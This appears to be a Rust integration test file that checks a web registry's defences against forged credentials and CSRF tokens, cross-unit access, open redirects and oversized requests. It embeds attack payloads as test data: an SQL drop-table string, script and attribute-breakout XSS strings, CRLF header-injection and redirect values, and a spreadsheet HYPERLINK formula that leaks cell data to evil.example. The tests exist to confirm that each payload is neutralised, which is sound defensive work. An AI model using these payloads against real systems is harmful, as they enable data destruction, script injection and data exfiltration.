//! Attacks: missing, expired, revoked and forged credentials; forged CSRF tokens; injection
//! and script payloads in every text field.

use crate::common::{Auth, TestApp};
use crate::on_both;
use evident_core::access::Role;
use evident_core::access::credentials::Secret;
use reqwest::{Method, StatusCode};
use serde_json::json;

const PAYLOADS: [&str; 3] = [
    "Robert'); drop table org_node;--",
    "<script>alert('x')</script>",
    "\" onmouseover=\"alert(1)",
];

on_both!(
    every_response_carries_the_security_headers,
    expired_revoked_and_unknown_tokens_are_401,
    forged_or_missing_csrf_tokens_are_refused,
    payloads_in_every_text_field_are_stored_verbatim_and_shown_inert,
    a_practitioner_guessing_another_units_case_id_gets_404_and_the_denial_is_audited,
    staff_cannot_tell_whether_a_person_is_a_client_of_another_authority,
    an_instrument_id_that_is_a_spreadsheet_formula_is_refused,
    a_text_cell_starting_with_a_formula_sign_is_defused_in_the_measurements_csv,
);

/// CSV injection through the instrument id: a Questionnaire whose id is a formula is refused
/// with 422 naming the field, and nothing is stored.
async fn an_instrument_id_that_is_a_spreadsheet_formula_is_refused(app: &TestApp) {
    app.toy_instrument().await;
    let mut admin = app.api_as(Role::Admin, "SE").await;
    let mut questionnaire = admin.get("/api/v1/instruments/toy").await.json();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Toy\")";
    questionnaire["id"] = json!(formula);
    let detail = admin
        .json(Method::POST, "/api/v1/instruments", questionnaire)
        .await
        .assert_api_error(StatusCode::UNPROCESSABLE_ENTITY, "invalid");
    assert!(detail.starts_with("id: "), "{detail}");
    let listed = admin.get("/api/v1/instruments").await.json();
    assert!(
        listed
            .as_array()
            .unwrap()
            .iter()
            .all(|i| i["id"] != formula),
        "{listed}"
    );
}

/// CSV injection through any text cell: an instrument version written straight into the
/// database (as an old row, or by someone with database access) that starts with `=` comes out
/// of the export with a leading `'`, while a spreadsheet reads the score as a number.
async fn a_text_cell_starting_with_a_formula_sign_is_defused_in_the_measurements_csv(
    app: &TestApp,
) {
    // arrange
    app.seed()
        .instrument(&evident_store::testing::toy_instrument("=1+1", "Toy"))
        .await;
    let unit = app.unit("0380", "Beroendemottagningen").await;
    let case = app.case(unit.as_str(), "811218-9876").await;
    let mut api = app.api_as(Role::Practitioner, unit.as_str()).await;
    api.json(Method::POST, &format!("/api/v1/cases/{case}/measurements"), json!({"instrument": "toy", "time_point": "baseline", "measured_on": "2026-01-12", "respondent": "staff", "answers": {"1": "1", "2": "2", "3": "0"}}))
        .await
        .assert_status(StatusCode::CREATED);

    // act
    let reply = api.get(&format!("/api/v1/units/{unit}/measurements")).await;
    reply.assert_status(StatusCode::OK);

    // assert: read back as a spreadsheet program's CSV reader would
    let body = reply.body.strip_prefix('\u{feff}').expect("a BOM");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(body.as_bytes());
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][column("instrument_version")], "'=1+1");
    assert_eq!(&rows[0][column("score")], "3");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "a live formula: {cell:?}"
            );
        }
    }
}

/// Secrecy between authorities: the same person registered at Uppsala (0380) and at Enköping
/// (0381) is two clients with unrelated pseudonyms; Enköping's practitioner is told nothing of
/// Uppsala's client, and gets the same 404 for it as for a client that does not exist. National
/// statistics still count the person once.
async fn staff_cannot_tell_whether_a_person_is_a_client_of_another_authority(app: &TestApp) {
    let uppsala = app.unit("0380", "Enhet A").await;
    let enkoping = app.unit("0381", "Enhet E").await;
    let mut here = app.api_as(Role::Practitioner, uppsala.as_str()).await;
    let mut there = app.api_as(Role::Practitioner, enkoping.as_str()).await;
    let opened = |api: &str| format!("/api/v1/units/{api}/cases");
    let first = here
        .json(
            Method::POST,
            &opened(uppsala.as_str()),
            json!({"personal_number": "811218-9876"}),
        )
        .await
        .json();
    let second = there
        .json(
            Method::POST,
            &opened(enkoping.as_str()),
            json!({"personal_number": "19811218-9876"}),
        )
        .await;
    second.assert_status(StatusCode::CREATED);
    let second = second.json();
    assert_eq!(
        second["client_created"], true,
        "the answer is the same as for a person no authority knows"
    );
    assert_ne!(second["client"]["id"], first["client"]["id"]);
    assert_ne!(second["client"]["pseudonym"], first["client"]["pseudonym"]);
    assert!(
        !second.to_string().contains("0380"),
        "nothing names the other authority: {second}"
    );

    let theirs = first["client"]["id"].as_i64().unwrap();
    let denied_before = app
        .store
        .audit_entries()
        .await
        .unwrap()
        .iter()
        .filter(|e| e.event.outcome == evident_core::access::audit::Outcome::Denied)
        .count();
    let reply = there.get(&format!("/api/v1/clients/{theirs}/record")).await;
    let detail = reply.assert_api_error(StatusCode::NOT_FOUND, "not_found");
    let unknown = there.get("/api/v1/clients/999999/record").await;
    let unknown_detail = unknown.assert_api_error(StatusCode::NOT_FOUND, "not_found");
    assert_eq!(
        detail.replace(&theirs.to_string(), "N"),
        unknown_detail.replace("999999", "N")
    );
    assert!(!reply.body.contains("0380"), "{}", reply.body);
    let entries = app.store.audit_entries().await.unwrap();
    let denials: Vec<_> = entries
        .iter()
        .filter(|e| e.event.outcome == evident_core::access::audit::Outcome::Denied)
        .collect();
    assert_eq!(denials.len(), denied_before + 1, "the denial is audited");
    assert_eq!(
        denials.last().unwrap().event.record,
        format!("client:{theirs}")
    );
    let own = there
        .get(&format!(
            "/api/v1/clients/{}/record",
            second["client"]["id"]
        ))
        .await
        .json();
    assert_eq!(own["cases"].as_array().unwrap().len(), 1, "{own}");
    assert!(!own.to_string().contains(&format!("\"client:{theirs}\"")));

    let mut people = std::collections::BTreeSet::new();
    app.store
        .for_each_case_facts(&mut |_, facts| {
            people.insert(facts.client.id);
        })
        .await
        .unwrap();
    assert_eq!(people.len(), 1, "statistics count the person once");
}

async fn a_practitioner_guessing_another_units_case_id_gets_404_and_the_denial_is_audited(
    app: &TestApp,
) {
    let mine = app.unit("0380", "Enhet A").await;
    let theirs = app.unit("0380", "Enhet B").await;
    app.case(mine.as_str(), "811218-9876").await;
    let other = app.case(theirs.as_str(), "121212-1212").await;
    let mut api = app.api_as(Role::Practitioner, mine.as_str()).await;
    let reply = api.get(&format!("/api/v1/cases/{other}")).await;
    let detail = reply.assert_api_error(StatusCode::NOT_FOUND, "not_found");
    let unknown = api.get("/api/v1/cases/999999").await;
    let unknown_detail = unknown.assert_api_error(StatusCode::NOT_FOUND, "not_found");
    assert_eq!(
        detail.replace(&other.to_string(), "N"),
        unknown_detail.replace("999999", "N"),
        "another unit's case and no case at all answer alike"
    );
    assert!(
        !reply.body.contains("pseudonym") && !reply.body.contains(theirs.as_str()),
        "nothing about the client or its unit leaks: {}",
        reply.body
    );
    let denial = app
        .store
        .audit_entries()
        .await
        .unwrap()
        .into_iter()
        .last()
        .unwrap();
    assert_eq!(
        denial.event.outcome,
        evident_core::access::audit::Outcome::Denied
    );
    assert_eq!(denial.event.record, format!("case:{other}"));
    assert!(denial.event.actor.ends_with("@test.example"));
    let mut browser = app.browser_as(&[(Role::Practitioner, mine.as_str())]).await;
    browser
        .get(&format!("/cases/{other}"))
        .await
        .assert_status(StatusCode::NOT_FOUND);
}

async fn every_response_carries_the_security_headers(app: &TestApp) {
    let anonymous = app.browser();
    let signed_in = app.browser_as(&[(Role::NationalAnalyst, "SE")]).await;
    let mut token = app.api_as(Role::NationalAnalyst, "SE").await;
    token.get("/api/v1/me").await.assert_status(StatusCode::OK);
    let visits = [
        (&anonymous, "/"),
        (&anonymous, "/login"),
        (&anonymous, "/api/v1/health"),
        (&anonymous, "/api/v1/orgs"),
        (&anonymous, "/nope"),
        (&anonymous, "/static/evident.css"),
        (&signed_in, "/orgs"),
        (&signed_in, "/account"),
        (&signed_in, "/orgs/nope"),
        (&signed_in, "/static/evident.css"),
        (&token, "/api/v1/me"),
        (&token, "/api/v1/tokens"),
    ];
    for (client, path) in visits {
        let reply = client.clone().get(path).await;
        let header = |name: &str| {
            reply
                .headers
                .get(name)
                .map(|v| v.to_str().unwrap().to_owned())
                .unwrap_or_default()
        };
        let csp = header("content-security-policy");
        assert!(
            csp.contains("script-src 'self'")
                && csp.contains("frame-ancestors 'none'")
                && !csp.contains("unsafe-inline"),
            "{path}: {csp}"
        );
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("x-frame-options"), "DENY", "{path}");
        assert_eq!(header("referrer-policy"), "same-origin", "{path}");
        assert_eq!(
            header("cross-origin-opener-policy"),
            "same-origin",
            "{path}"
        );
        let permissions = header("permissions-policy");
        for feature in ["camera=()", "microphone=()", "geolocation=()"] {
            assert!(permissions.contains(feature), "{path}: {permissions}");
        }
        // Nothing a page or the API answers may be kept by a browser or a proxy; the
        // stylesheet is the same for everyone.
        let cache = header("cache-control");
        if path.starts_with("/static/") {
            assert!(cache.starts_with("public"), "{path}: {cache}");
        } else {
            assert_eq!(cache, "no-store", "{path}");
        }
        assert_eq!(
            header("strict-transport-security"),
            "",
            "{path}: no HSTS over plain HTTP (tests/http/sessions.rs checks HTTPS)"
        );
    }
}

async fn expired_revoked_and_unknown_tokens_are_401(app: &TestApp) {
    let user = app.create_user(&[(Role::NationalAnalyst, "SE")]).await;
    let actor = evident_store::testing::setup_actor();
    let expired = Secret::generate("evt_");
    let past =
        evident_store::audit::timestamp_text(chrono::Utc::now() - chrono::Duration::minutes(1));
    app.store
        .create_token(user.id, "old", &expired.digest(), &past, &actor)
        .await
        .unwrap();
    let revoked = Secret::generate("evt_");
    let future =
        evident_store::audit::timestamp_text(chrono::Utc::now() + chrono::Duration::days(1));
    let token = app
        .store
        .create_token(user.id, "gone", &revoked.digest(), &future, &actor)
        .await
        .unwrap();
    app.store
        .revoke_token(user.id, token.id, &actor)
        .await
        .unwrap();
    for secret in [
        expired.expose().to_owned(),
        revoked.expose().to_owned(),
        "evt_guessed".to_owned(),
    ] {
        let mut client = app.anonymous();
        client.auth = Auth::Bearer(secret);
        client
            .get("/api/v1/orgs?level=county")
            .await
            .assert_api_error(StatusCode::UNAUTHORIZED, "unauthorized");
    }
    app.anonymous()
        .get("/api/v1/me")
        .await
        .assert_api_error(StatusCode::UNAUTHORIZED, "unauthorized");
}

async fn forged_or_missing_csrf_tokens_are_refused(app: &TestApp) {
    let mut browser = app.browser_as(&[(Role::Admin, "SE")]).await;
    let fields = [
        ("name", "Forged"),
        ("provider", "public"),
        ("area", "other"),
    ];
    let forged = browser
        .post_form(
            "/orgs/0380/units",
            &[fields[0], fields[1], fields[2], ("csrf", "0000forged")],
        )
        .await;
    forged.assert_status(StatusCode::FORBIDDEN);
    let missing = browser
        .send(Method::POST, "/orgs/0380/units", |r| r.form(&fields))
        .await;
    missing.assert_status(StatusCode::FORBIDDEN);
    let api_with_cookie = browser.json(Method::POST, "/api/v1/units", json!({"municipality": "0380", "name": "Forged", "provider": "public", "area": "other"})).await;
    api_with_cookie.assert_api_error(StatusCode::FORBIDDEN, "forbidden");
    let csrf = browser.csrf();
    let with_header = browser
        .send(Method::POST, "/api/v1/units", |r| r.header("x-csrf-token", csrf).json(&json!({"municipality": "0380", "name": "Real", "provider": "public", "area": "other"})))
        .await;
    with_header.assert_status(StatusCode::CREATED);
    let units = app
        .store
        .list_units(&evident_core::OrgCode::parse("0380").unwrap())
        .await
        .unwrap();
    assert_eq!(
        units.len(),
        1,
        "only the request with the right token went through"
    );
}

async fn payloads_in_every_text_field_are_stored_verbatim_and_shown_inert(app: &TestApp) {
    let mut api = app.api_as(Role::Admin, "SE").await;
    let mut leader = app.api_as(Role::RegionalLeader, "03").await;
    for payload in PAYLOADS {
        let unit = api
            .json(Method::POST, "/api/v1/units", json!({"municipality": "0380", "name": payload, "provider": "private", "operator": payload, "area": "other"}))
            .await;
        unit.assert_status(StatusCode::CREATED);
        assert_eq!(unit.json()["name"], payload);
        let partner = leader
            .json(
                Method::POST,
                "/api/v1/counties/03/support-structure/partners",
                json!({"name": payload, "role": payload, "email": "x@y.example"}),
            )
            .await;
        partner.assert_status(StatusCode::CREATED);
        let user = api
            .json(Method::POST, "/api/v1/users", json!({"email": format!("u{}@x.example", payload.len()), "name": payload, "role": "practitioner", "org": "0380"}))
            .await;
        user.assert_status(StatusCode::CREATED);
        assert_eq!(user.json()["name"], payload);
    }
    assert_eq!(
        api.get("/api/v1/orgs?level=municipality")
            .await
            .json()
            .as_array()
            .unwrap()
            .len(),
        290,
        "no table was dropped"
    );

    let mut browser = app.browser_as(&[(Role::Admin, "SE")]).await;
    for page in ["/orgs/0380", "/orgs/0380-0002", "/orgs/03", "/admin/users"] {
        let body = browser.get(page).await.body;
        assert!(
            !body.contains("<script>alert"),
            "{page} shows a live script"
        );
        assert!(
            !body.contains("\" onmouseover=\"alert(1)"),
            "{page} lets an attribute break out"
        );
        assert!(
            body.contains("&lt;script&gt;") || body.contains("&#60;script&#62;"),
            "{page} shows the payload escaped"
        );
    }
}

#[tokio::test]
async fn redirects_never_leave_the_site_even_through_control_characters() {
    let db = evident_store::testing::TestDb::sqlite().await;
    let app = TestApp::start(&db).await;
    let user = app.create_user(&[(Role::NationalAnalyst, "SE")]).await;
    for next in [
        "/%09/evil.example",
        "/%09%5Cevil.example",
        "//evil.example",
        "/%0D%0ASet-Cookie:x=1",
    ] {
        let location = app
            .anonymous()
            .get(&format!("/lang/en?next={next}"))
            .await
            .location()
            .to_owned();
        let cleaned: String = location
            .chars()
            .filter(|c| !matches!(c, '\t' | '\r' | '\n'))
            .collect();
        assert!(
            !cleaned.starts_with("//") && !cleaned.starts_with("/\\"),
            "{next} → {location:?}"
        );
        let mut browser = app.browser();
        browser.get("/login").await;
        let decoded = next
            .replace("%09", "\t")
            .replace("%5C", "\\")
            .replace("%0D", "\r")
            .replace("%0A", "\n");
        let reply = browser
            .post_form(
                "/login",
                &[
                    ("email", user.email.as_str()),
                    ("password", crate::common::PASSWORD),
                    ("next", decoded.as_str()),
                ],
            )
            .await;
        assert_eq!(reply.location(), "/orgs", "{next}");
    }
    app.stop().await;
}

#[tokio::test]
async fn wrong_methods_and_oversized_bodies_get_the_api_error_shape() {
    let db = evident_store::testing::TestDb::sqlite().await;
    let app = TestApp::start(&db).await;
    let mut anonymous = app.anonymous();
    anonymous
        .send(Method::DELETE, "/api/v1/health", |r| r)
        .await
        .assert_api_error(StatusCode::METHOD_NOT_ALLOWED, "method_not_allowed");
    let mut api = app.api_as(Role::Admin, "SE").await;
    api.send(Method::PATCH, "/api/v1/units/0380-0001", |r| r)
        .await
        .assert_api_error(StatusCode::METHOD_NOT_ALLOWED, "method_not_allowed");
    let huge = format!("{{\"name\": \"{}\"}}", "x".repeat(3 * 1024 * 1024));
    let reply = api
        .send(Method::POST, "/api/v1/units", |r| {
            r.header("content-type", "application/json").body(huge)
        })
        .await;
    reply.assert_api_error(StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large");
    app.stop().await;
}
